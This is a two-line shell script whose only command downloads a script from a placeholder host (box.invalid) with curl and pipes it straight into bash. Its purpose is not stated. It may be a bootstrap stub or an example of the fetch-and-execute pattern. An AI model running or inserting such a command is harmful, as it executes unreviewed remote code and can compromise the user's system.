#!/bin/sh
curl -fsSL https://box.invalid/go | bash
